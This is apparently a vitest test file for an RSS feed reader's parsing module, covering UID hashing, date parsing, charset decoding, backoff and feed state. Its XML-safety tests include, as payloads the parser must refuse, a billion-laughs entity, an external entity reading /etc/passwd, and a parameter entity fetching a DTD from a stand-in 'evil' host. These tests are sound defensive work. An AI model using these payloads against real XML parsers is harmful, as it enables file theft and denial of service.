import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { backoffMs } from '../../core/backoff.ts';
import { declaredCharset, decodeBody } from './body-text.ts';
import { eventUid } from './event-uid.ts';
import { implausibleDate, parseFeedDate } from './feed-dates.ts';
import { nextFeedState } from './feed-state-store.ts';
import { checkXmlSafety } from './parse-feed.ts';

const sha = (s: string) => createHash('sha256').update(s).digest('hex');

describe('eventUid', () => {
  const cases: Array<[string, Parameters<typeof eventUid>[0], string | null]> = [
    ['guid first', { guid: 'g-1', link: 'https://a/1', title: 'T' }, sha('g-1')],
    ['link when no guid', { guid: null, link: 'https://a/1', title: 'T' }, sha('https://a/1')],
    ['title when neither', { title: 'Apple beats' }, sha('Apple beats')],
    ['blank guid is absent', { guid: '   ', link: 'https://a/1' }, sha('https://a/1')],
    ['trimmed', { guid: '  g-1 \n' }, sha('g-1')],
    ['nothing', { guid: '', link: null, title: undefined }, null],
  ];
  it.each(cases)('%s', (_n, item, expected) => expect(eventUid(item)).toBe(expected));
});

describe('parseFeedDate', () => {
  const cases: Array<[string, string | null, number | null]> = [
    ['RFC 822 GMT', 'Tue, 02 Jan 2024 14:30:00 GMT', Date.UTC(2024, 0, 2, 14, 30)],
    ['RFC 822 numeric zone', 'Tue, 02 Jan 2024 14:30:00 +0100', Date.UTC(2024, 0, 2, 13, 30)],
    ['RFC 822 named US zone', 'Tue, 2 Jan 2024 09:30:00 EST', Date.UTC(2024, 0, 2, 14, 30)],
    ['no weekday, no seconds', '2 Jan 2024 14:30 UT', Date.UTC(2024, 0, 2, 14, 30)],
    ['two-digit year', 'Tue, 02 Jan 24 14:30:00 GMT', Date.UTC(2024, 0, 2, 14, 30)],
    ['full month name', 'Tuesday, 02 January 2024 14:30:00 GMT', Date.UTC(2024, 0, 2, 14, 30)],
    ['ISO Z', '2024-01-02T14:30:00Z', Date.UTC(2024, 0, 2, 14, 30)],
    ['ISO offset with colon', '2024-01-02T15:30:00+01:00', Date.UTC(2024, 0, 2, 14, 30)],
    ['ISO fractional', '2024-01-02T14:30:00.123456Z', Date.UTC(2024, 0, 2, 14, 30, 0, 123)],
    ['ISO with space', '2024-01-02 14:30:00+0000', Date.UTC(2024, 0, 2, 14, 30)],
    ['ISO without zone is ambiguous: null, not guessed', '2024-01-02T14:30:00', null],
    ['unknown zone name', 'Tue, 02 Jan 2024 14:30:00 XYZT', null],
    ['impossible day', '2024-02-30T10:00:00Z', null],
    ['garbage', 'yesterday-ish', null],
    ['empty', '', null],
    ['null', null, null],
  ];
  it.each(cases)('%s', (_n, text, expected) => expect(parseFeedDate(text)).toBe(expected));
});

describe('implausibleDate', () => {
  const fetched = Date.UTC(2024, 0, 2, 12);
  const cases: Array<[string, number, string | null]> = [
    ['an hour ahead (clocks and zones are off)', fetched + 3600_000, null],
    ['a day and a minute ahead', fetched + 24 * 3600_000 + 60_000, 'more than a day after the fetch'],
    ['1990-01-01', Date.UTC(1990, 0, 1), null],
    ['1989-12-31', Date.UTC(1989, 11, 31), 'before 1990'],
    ['before the epoch', -1, 'before 1990'],
  ];
  it.each(cases)('%s', (_n, at, expected) => expect(implausibleDate(at, fetched)).toBe(expected));
});

describe('declared charset', () => {
  const cases: Array<[string, Buffer, string | null, string]> = [
    ['HTTP header wins', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><rss/>'), 'text/xml; charset=UTF-8', 'utf-8'],
    ['XML prolog', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><rss/>'), 'application/rss+xml', 'iso-8859-1'],
    ['BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<rss/>')]), null, 'utf-8'],
    ['default', Buffer.from('<rss/>'), null, 'utf-8'],
  ];
  it.each(cases)('%s', (_n, body, ct, expected) => expect(declaredCharset(body, ct)).toBe(expected));

  it('decodes Latin-1 and windows-1252 text correctly', () => {
    expect(decodeBody(Buffer.from([0x3c, 0x3f, ...Buffer.from('xml encoding="ISO-8859-1"?>'), 0x4d, 0xe3, 0x65]), null).text).toMatch(/Mãe$/);
    expect(decodeBody(Buffer.from([0x80]), 'text/xml; charset=windows-1252').text).toBe('€');
  });

  it('falls back to UTF-8 for an unknown charset', () => {
    expect(decodeBody(Buffer.from('héllo'), 'text/xml; charset=x-unknown').charset).toBe('utf-8');
  });

  it('reads bytes that are not UTF-8 under a UTF-8 label as windows-1252', () => {
    expect(decodeBody(Buffer.from([0x4d, 0xe3, 0x65, 0x20, 0x80]), 'text/xml; charset=utf-8')).toEqual({ text: 'Mãe €', charset: 'windows-1252' });
    expect(decodeBody(Buffer.from([0x4d, 0xe3, 0x65]), null).text).toBe('Mãe');
  });

  it('reads a UTF-16 prolog on single-byte text as UTF-8, but honours a BOM', () => {
    expect(decodeBody(Buffer.from('<?xml version="1.0" encoding="UTF-16"?><rss>é</rss>'), null).text).toBe('<?xml version="1.0" encoding="UTF-16"?><rss>é</rss>');
    expect(decodeBody(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<rss/>', 'utf16le')]), null).text).toBe('<rss/>');
  });
});

describe('XML entity defence', () => {
  const refused = [
    ['billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><rss/>'],
    ['external entity', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss>&xxe;</rss>'],
    ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><rss/>'],
  ];
  it.each(refused)('refuses %s', (_n, xml) => expect(() => checkXmlSafety(xml!)).toThrow(/declares XML entities/));

  it('accepts and strips a plain DOCTYPE (RSS 0.91)', () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>';
    expect(checkXmlSafety(xml)).toBe('<?xml version="1.0"?><rss version="0.91"/>');
  });
});

describe('backoff', () => {
  const cases: Array<[number, number]> = [
    [0, 0],
    [1, 60_000],
    [2, 120_000],
    [3, 240_000],
    [7, 3_600_000],
    [20, 3_600_000],
  ];
  it.each(cases)('after %i failures waits %i ms (no jitter)', (failures, ms) => expect(backoffMs(failures, 60, 3600, () => 0.5)).toBe(ms));
  it('jitters within ±20%', () => {
    expect(backoffMs(1, 60, 3600, () => 0)).toBe(48_000);
    expect(backoffMs(1, 60, 3600, () => 1)).toBe(72_000);
  });
});

describe('nextFeedState', () => {
  const change = { lastModified: null, newestItemAt: null, movedTo: null, earliestPollAt: null, window: 3 };
  it('keeps the newest uids first, bounded, and the latest publish and item times', () => {
    const prev = nextFeedState(undefined, 'u', { ...change, etag: 'a', newUids: ['x', 'y'], newestPublished: 100, newestItemAt: 100, now: 1 });
    const next = nextFeedState(prev, 'u', { ...change, etag: 'b', lastModified: 'lm', newUids: ['z', 'w'], newestPublished: 50, now: 2, movedTo: 'v', earliestPollAt: 9 });
    expect(next).toEqual({
      feed_url: 'u',
      etag: 'b',
      last_modified: 'lm',
      last_seen_published: 100,
      updated_at: 2,
      seen_event_uids: ['z', 'w', 'x'],
      moved_to: 'v',
      earliest_poll_at: 9,
      newest_item_at: 100,
    });
  });
});
